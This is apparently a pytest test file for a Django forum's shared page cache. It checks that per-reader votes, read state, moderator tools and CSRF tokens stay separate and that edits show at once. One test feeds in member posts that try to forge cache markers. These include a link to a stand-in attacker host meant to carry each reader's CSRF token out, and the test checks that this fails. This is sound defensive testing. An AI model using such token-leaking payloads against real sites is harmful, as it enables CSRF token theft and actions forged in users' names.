"""The reading pages' blocks are rendered once and shared by every reader of a role;
each reader still gets their own read state, votes, controls and CSRF token, and every
write shows at once (community/forums/pagecache.py)."""

import re

import pytest
from django.contrib.auth.models import Group
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from community.forums import services
from community.forums.fragments import csrf_placeholder, marker_tag
from community.forums.models import Category, Post, Tag, Thread
from tests.forums.conftest import make_member

pytestmark = pytest.mark.django_db


def _get(client, url) -> tuple[str, list[str]]:
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url)
    assert response.status_code == 200
    html = response.content.decode()
    assert "<!--fc" not in html and "<!--/fc" not in html, "a marker reached the reader"
    assert marker_tag() not in html, "the marker tag reached the reader"
    return html, [q["sql"] for q in ctx.captured_queries]


def _reads_posts(queries) -> bool:
    return any('FROM "forums_post"' in sql for sql in queries)


def test_members_share_one_rendering_of_a_thread_page(question, answer, third, answerer):
    first, second = Client(), Client()
    first.force_login(third)
    second.force_login(make_member("someone@example.org", handle="someone"))
    _html, queries = _get(first, question.get_absolute_url())
    assert _reads_posts(queries)
    html, queries = _get(second, question.get_absolute_url())
    assert not _reads_posts(queries), "the second member should get the block from the cache"
    assert not any('FROM "forums_thread"' in sql for sql in queries), "and the thread too"
    assert "Iterate over the response" in html


def test_anonymous_readers_share_the_topic_list(question, answer):
    _get(Client(), reverse("forums:index"))
    html, queries = _get(Client(), reverse("forums:index"))
    assert not any('FROM "forums_thread"' in sql for sql in queries)
    assert question.title in html


def test_votes_and_controls_are_each_readers_own(question, answer, asker, answerer, third):
    services.post_vote(user=third, post=answer)
    readers = {who: Client() for who in ("voter", "author", "other", "anonymous")}
    readers["voter"].force_login(third)
    readers["author"].force_login(answerer)
    readers["other"].force_login(asker)
    pages = {who: _get(client, question.get_absolute_url())[0] for who, client in readers.items()}
    article = {who: html.split(f'id="post-{answer.pk}"', 1)[1].split("</article>", 1)[0] for who, html in pages.items()}
    assert 'aria-pressed="true"' in article["voter"]
    assert 'aria-pressed="true"' not in article["other"]
    assert "disabled" in article["author"]
    assert "Log in to vote" in article["anonymous"] and "disabled" not in article["anonymous"]
    assert "Log in to vote" not in article["author"] + article["other"] + article["voter"]
    assert "disabled" not in article["other"].split("vote-score", 1)[0]
    edit = reverse("forums:post_edit", kwargs={"pk": answer.pk})
    flag = reverse("forums:post_flag", kwargs={"pk": answer.pk})
    assert edit in article["author"] and flag not in article["author"]
    assert edit not in article["other"] and flag in article["other"]
    assert edit not in article["anonymous"] and flag not in article["anonymous"]


def test_a_hidden_post_stays_readable_by_its_author_only(question, answer, answerer, third, moderator):
    services.post_hide(moderator=moderator, post=answer, reason="needs a source")
    author, other = Client(), Client()
    author.force_login(answerer)
    other.force_login(third)
    assert "Iterate over the response" not in _get(other, question.get_absolute_url())[0]
    html = _get(author, question.get_absolute_url())[0]
    assert "Iterate over the response" in html
    assert "needs a source" in html


def test_read_state_is_each_readers_own(question, answer, asker, third):
    index = reverse("forums:index")
    reader, other = Client(), Client()
    reader.force_login(third)
    other.force_login(asker)
    row = f'href="{question.get_absolute_url()}"'
    assert ">New<" in _get(reader, index)[0].split(row, 1)[0].rsplit("<li", 1)[1]
    _get(reader, question.get_absolute_url())
    html = _get(reader, index)[0]
    assert "is-read" in html.split(row, 1)[0].rsplit("<li", 1)[1]
    assert "is-read" not in _get(other, index)[0].split(row, 1)[0].rsplit("<li", 1)[1]
    assert ">New<" not in _get(Client(), index)[0]


def test_names_categories_tags_and_bulk_updates_show_at_once(question, answer, answerer, tags):
    client = Client()
    _get(client, question.get_absolute_url())
    _get(client, reverse("forums:index"))
    answerer.profile.display_name = "Renamed Person"
    answerer.profile.save()
    assert "Renamed Person" in _get(client, question.get_absolute_url())[0]
    category = question.category
    category.name = "Questions and Answers"
    category.save()
    assert "Questions and Answers" in _get(client, reverse("forums:index"))[0]
    tag = Tag.objects.create(name="brand-new-tag", slug="brand-new-tag")
    question.tags.add(tag)
    assert "brand-new-tag" in _get(client, reverse("forums:index"))[0]
    Post.objects.filter(pk=answer.pk).update(score=41)
    assert 'aria-label="score">41<' in _get(client, question.get_absolute_url())[0]
    Thread.objects.filter(pk=question.pk).update(title="Retitled in bulk")
    assert "Retitled in bulk" in _get(client, reverse("forums:index"))[0]
    assert Category.objects.filter(name="Questions and Answers").exists()


def test_markers_typed_by_members_stay_text(qa, asker, third):
    thread = services.thread_create(
        author=asker, category=qa, title="Why <!--fc:own:1--> in my title", body="<!--fc:others:2-->hi<!--/fc-->"
    )
    client = Client()
    client.force_login(third)
    html = _get(client, thread.get_absolute_url())[0]
    assert "Why &lt;!--fc:own:1--&gt; in my title" in html
    assert "Why &lt;!--fc:own:1--&gt; in my title" in _get(client, reverse("forums:index"))[0]


def _csrf_token(html: str) -> str:
    return re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html)[1]


@pytest.mark.parametrize(
    "body",
    [
        # The probe's exploit: the old placeholder in a link, filled with each reader's token.
        "[l](http://evil.example/l?t=\ue0f0csrf\ue0f1)",
        "\ue0f0csrf\ue0f1 in plain text",
        # Markers carried inside attributes.
        '[l](http://evil.example/ "<!--fc:own:1-->x<!--/fc-->") '
        'and ![i](http://evil.example/i.png "<!--fc:vote:1:2-->")',
    ],
)
def test_member_content_cannot_forge_a_marker(qa, asker, answerer, third, body):
    """No post can make the page carry a reader's CSRF token or a per-reader control: only
    markers with the server's secret tag are filled."""
    thread = services.thread_create(author=asker, category=qa, title="How do I stream?", body="Question body here.")
    services.post_create(author=answerer, thread=thread, body=body)
    for reader in (third, asker):
        client = Client()
        client.force_login(reader)
        for _ in range(2):  # rendered, then from the cache
            html = _get(client, thread.get_absolute_url())[0]
            token = _csrf_token(html)
            links = re.findall(r'(?:href|src|title)="([^"]*)"', html)
            assert not [link for link in links if token in link], "a reader's CSRF token left in member content"
            assert html.count(token) == html.count('name="csrfmiddlewaretoken"')


def test_the_placeholder_is_secret_to_the_deployment(settings):
    """The tag comes from the SECRET_KEY: another deployment's (or a guessed) tag differs."""
    tag, placeholder = marker_tag(), csrf_placeholder()
    assert len(tag) > 20 and tag in placeholder
    settings.SECRET_KEY = "another-secret-key-for-another-deployment-0123456789-abcdef"
    assert marker_tag() != tag and csrf_placeholder() != placeholder


def test_unknown_query_parameters_bypass_the_cache(question, answer):
    _get(Client(), question.get_absolute_url() + "?utm_source=x")
    _html, queries = _get(Client(), question.get_absolute_url() + "?utm_source=x")
    assert _reads_posts(queries)


def test_a_revoked_moderator_loses_the_tools_at_once(question, answer, moderator):
    client = Client()
    client.force_login(moderator)
    assert "Reason to hide" in _get(client, question.get_absolute_url())[0]
    moderator.groups.clear()
    moderator.user_permissions.clear()
    html = _get(client, question.get_absolute_url())[0]
    assert "Reason to hide" not in html
    response = client.post(reverse("forums:post_moderate", kwargs={"pk": answer.pk, "action": "hide"}), {"reason": "x"})
    assert response.status_code == 403
    assert Group.objects.exists()


def test_hidden_deleted_and_merged_threads_never_come_from_the_cache(question, answer, asker, third, moderator):
    reader, moderating = Client(), Client()
    reader.force_login(third)
    moderating.force_login(moderator)
    _get(reader, question.get_absolute_url())  # cached while everyone may see it
    Thread.objects.filter(pk=question.pk).update(is_hidden=True)
    assert reader.get(question.get_absolute_url()).status_code == 404
    assert moderating.get(question.get_absolute_url()).status_code == 200
    Thread.objects.filter(pk=question.pk).update(is_hidden=False, is_deleted=True)
    assert moderating.get(question.get_absolute_url()).status_code == 404
    target = services.thread_create(author=asker, category=question.category, title="The kept thread", body="Kept.")
    Thread.objects.filter(pk=question.pk).update(is_deleted=False, merged_into=target)
    assert reader.get(question.get_absolute_url()).url == target.get_absolute_url()


def test_a_signed_in_reader_reads_their_own_state_in_one_query(question, answer, third, answerer):
    """Warm pages cost a member one query: the thread page's watch state, read marker and
    votes together; the topic list's read markers."""
    services.post_vote(user=third, post=answer)
    reader = Client()
    reader.force_login(third)
    url = question.get_absolute_url()
    _get(reader, url)  # renders the block and writes the read marker
    _get(reader, reverse("forums:index"))
    html, queries = _get(reader, url)
    assert len(queries) == 1, queries
    assert "Stop watching" not in html
    article = html.split(f'id="post-{answer.pk}"', 1)[1].split("</article>", 1)[0]
    assert 'aria-pressed="true"' in article
    _html, queries = _get(reader, reverse("forums:index"))
    assert len(queries) == 1, queries

    assert reader.post(reverse("forums:thread_watch", kwargs={"pk": question.pk})).status_code == 302
    html, queries = _get(reader, url)
    assert "Stop watching" in html and len(queries) == 1


def test_a_page_carries_one_csrf_token_that_its_forms_accept(question, answer, third):
    """The blocks' forms and the page's own share one masked token, and posting works."""
    reader = Client(enforce_csrf_checks=True)
    reader.force_login(third)
    html = _get(reader, question.get_absolute_url())[0]
    tokens = set(re.findall(r'name="csrfmiddlewaretoken" value="([^"]+)"', html))
    assert len(tokens) == 1 and html.count("csrfmiddlewaretoken") > 3
    reply = {"body": "Thanks, that fixed it for me.", "csrfmiddlewaretoken": tokens.pop()}
    response = reader.post(reverse("forums:reply", kwargs={"pk": question.pk}), reply)
    assert response.status_code == 302
    assert Post.objects.filter(thread=question, body=reply["body"]).exists()
